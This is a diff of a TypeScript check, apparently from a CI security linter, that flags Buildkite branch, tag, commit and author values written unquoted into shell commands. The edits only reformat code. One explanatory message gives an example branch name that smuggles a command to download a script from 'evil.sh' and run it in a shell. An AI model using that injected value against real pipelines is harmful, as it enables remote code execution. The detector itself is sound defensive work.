@@ -6,7 +6,8 @@ import type { LookedAt } from './looked-at.ts'
 
 /** What somebody outside of the team chooses: of the build, and of its environment (docs/spec/environment.md §1). */
 const ofBuild = /^(?:branch|tag|message|author|creator|labels|repository|base_branch)$/
-const ofEnvironment = /^BUILDKITE_(?:BRANCH|TAG|MESSAGE|BUILD_AUTHOR|BUILD_CREATOR|PULL_REQUEST_(?:REPO|BASE_BRANCH|LABELS))/
+const ofEnvironment =
+  /^BUILDKITE_(?:BRANCH|TAG|MESSAGE|BUILD_AUTHOR|BUILD_CREATOR|PULL_REQUEST_(?:REPO|BASE_BRANCH|LABELS))/
 
 /** Texts of an outsider that the program itself puts into a command, where a shell reads them as a part of it. */
 export function* outsidersInCommands(source: Source, nodes: readonly Node[]): Iterable<LookedAt> {
@@ -18,7 +19,7 @@ export function* outsidersInCommands(source: Source, nodes: readonly Node[]): It
       node,
       message: `${name} is written into a command, where a shell runs it`,
       why: 'whoever names a branch or a tag, or writes a commit, chooses that text: a branch may be named x";curl${IFS}evil.sh|sh;"',
-      hint: "write shell`…`, which quotes it, or let the shell of the job read its variable: \"$BUILDKITE_BRANCH\"",
+      hint: 'write shell`…`, which quotes it, or let the shell of the job read its variable: "$BUILDKITE_BRANCH"',
     }
   }
 }
